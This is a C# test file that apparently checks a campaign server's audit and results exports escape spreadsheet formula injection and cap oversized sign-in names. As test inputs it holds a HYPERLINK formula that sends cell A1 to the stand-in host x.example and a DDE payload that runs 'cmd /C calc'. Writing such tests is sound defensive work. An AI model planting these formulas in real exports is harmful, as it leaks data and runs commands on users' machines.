using System.Globalization;
using System.Net.Http.Json;
using CsvHelper;
using Dtx.Campaign.Server.Data;
using Dtx.Campaign.Server.Results;
using Dtx.Campaign.Server.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MiniExcelLibs;

namespace Dtx.Campaign.Server.Tests.Exports;

/// <summary>Text that a spreadsheet would run as a formula is exported escaped; what a stranger types is stored capped.</summary>
public abstract class FormulaInjectionTests(CampaignApp app)
{
    private const string Formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"y\")";

    [Fact]
    public async Task A_sign_in_name_that_is_a_formula_is_escaped_in_the_audit_CSV_and_a_huge_one_is_stored_capped()
    {
        await app.CreateClient().PostAsJsonAsync("/api/auth/login", new { email = Formula, password = "wrong-password" });
        var huge = new string('a', 200_000) + "@example.vn";
        var response = await app.CreateClient().PostAsJsonAsync("/api/auth/login", new { email = huge, password = "wrong-password" });
        Assert.True((int)response.StatusCode is >= 400 and < 500, $"{(int)response.StatusCode}");

        var admin = await app.LoginAsAdminAsync();
        var csv = await admin.GetStringAsync("/api/audit/export.csv");
        using var reader = new CsvReader(new StringReader(csv.TrimStart('\uFEFF')), CultureInfo.InvariantCulture);
        var cells = new List<string>();
        await reader.ReadAsync();
        reader.ReadHeader();
        while (await reader.ReadAsync())
            cells.Add(reader.GetField("entity_id") ?? "");
        Assert.Contains("'" + Formula, cells);
        Assert.DoesNotContain(Formula, cells);

        await using var scope = app.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<CampaignDbContext>();
        var longest = await db.AuditEntries.Where(e => e.EntityType == "user").MaxAsync(e => e.EntityId!.Length);
        Assert.True(longest <= 100, $"an audit entry keeps {longest} characters of a sign-in name");
    }

    [Fact]
    public void Unit_names_that_are_formulas_are_escaped_in_the_results_CSV_and_Excel_and_numbers_stay_numbers()
    {
        var unit = new UnitResult(Guid.NewGuid(), "@SUM(1+1)", "=cmd|' /C calc'!A0", "assessed", null, 1, 50, 0, 100, 50, "-band", [],
            [new IndicatorResult("1.1", 10, 5, null, null, 5, null, "+note")], [], new YearOverYear(2025, 60, 1, -10, -1, []), [], []);
        var document = new ResultDocument(Guid.NewGuid(), 2026, "\tTab campaign", "final",
            [new CategoryResult("department", "k", 1, 100, new CategoryAggregate(1, 1, 50, 100, 50, 50, []), [unit])]);

        var csv = System.Text.Encoding.UTF8.GetString(ResultsExport.Csv(document, "abc"));
        Assert.Contains(",'@SUM(1+1),'=cmd|' /C calc'!A0,assessed,50,0,100,50,'-band,-10,-1,abc", csv, StringComparison.Ordinal);

        using var xlsx = new MemoryStream(ResultsExport.Excel(document, "abc"));
        var ranking = xlsx.Query(useHeaderRow: true, sheetName: "ranking").Cast<IDictionary<string, object?>>().Single();
        Assert.Equal("'=cmd|' /C calc'!A0", ranking["UnitName"]);
        var indicator = xlsx.Query(useHeaderRow: true, sheetName: "indicators").Cast<IDictionary<string, object?>>().Single();
        Assert.Equal("'+note", indicator["note"]);
        var checksum = xlsx.Query(useHeaderRow: true, sheetName: "checksum").Cast<IDictionary<string, object?>>().Single();
        Assert.Equal("'\tTab campaign", checksum["campaign"]);
    }
}

public sealed class FormulaInjectionTests_Postgres(PostgresApp app) : FormulaInjectionTests(app), IClassFixture<PostgresApp>;

public sealed class FormulaInjectionTests_Sqlite(SqliteApp app) : FormulaInjectionTests(app), IClassFixture<SqliteApp>;
